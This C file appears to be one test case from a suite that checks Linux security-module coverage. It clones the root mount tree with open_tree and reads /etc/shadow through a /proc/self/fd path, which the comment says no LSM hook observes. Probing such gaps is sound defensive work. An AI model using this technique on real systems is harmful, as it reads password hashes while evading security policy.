// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G2. Reads /etc/shadow in a detached copy of the mount tree, which no LSM hook
 * sees being made. Source: 6.12 survey, "open_tree(CLONE): no hook in 6.12". Control: it can be
 * read.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/mount.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"

void attack(void)
{
	char path[64];
	int tree = (int)syscall(SYS_open_tree, AT_FDCWD, "/", OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);

	if (tree < 0)
		no_effect(errno);
	snprintf(path, sizeof(path), "/proc/self/fd/%d/etc/shadow", tree);
	judge(file_readable(path));
}
